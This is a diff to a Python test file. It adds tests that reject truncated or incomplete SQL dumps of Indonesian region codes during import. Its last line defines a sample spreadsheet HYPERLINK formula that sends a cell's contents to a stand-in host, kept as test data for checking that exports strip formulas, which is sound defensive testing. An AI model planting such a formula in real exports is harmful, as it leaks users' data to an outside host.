@@ -106,6 +106,43 @@ def test_the_first_two_megabytes_of_the_official_list_are_refused(db, region_fil
     assert Region.select().count() == before
 
 
+def test_a_dump_cut_right_after_a_statement_is_refused_by_its_missing_provinces(db, tmp_path):
+    """A cut just after a ``;`` reads cleanly; the provinces after it are missing."""
+    from imp_desktop.services.regions import import_region_file
+
+    part = tmp_path / "wilayah.sql"
+    part.write_text(_dump(REGION_ROWS), encoding="utf-8")   # only Jawa Tengah of 38
+    before = Region.select().count()
+    with pytest.raises(UserError, match="provinsi tidak ada") as refused:
+        import_region_file(part)
+    assert "\n" not in str(refused.value)
+    assert Region.select().count() == before
+    # a CSV may hold a part of the list: the officer's own kecamatan
+    csv_file = tmp_path / "desa.csv"
+    csv_file.write_text("kode,nama\n" + "".join(f"{c},{n}\n" for c, n in REGION_ROWS),
+                        encoding="utf-8")
+    assert import_region_file(csv_file).added == 6
+
+
+def test_the_official_list_cut_after_any_statement_is_refused(db, region_file, tmp_path):
+    from imp_desktop.services.regions import import_region_file
+
+    text = region_file.read_text(encoding="utf-8")
+    import re
+
+    first = text.index("INSERT INTO")
+    ends = [m.start() + 1 for m in re.finditer(r";\s*(?:--[^\n]*\n\s*)*INSERT INTO", text)
+            if m.start() > first]
+    assert len(ends) > 5
+    before = Region.select().count()
+    for end in ends:
+        part = tmp_path / "wilayah-potong.sql"
+        part.write_text(text[:end] + "\n", encoding="utf-8")
+        with pytest.raises(UserError, match="tidak utuh"):
+            import_region_file(part)
+        assert Region.select().count() == before
+
+
 # --- item 4: no formula in an export ------------------------------------------------------------
 
 HOSTILE = '=HYPERLINK("http://x/?d="&C3,"Klik")'
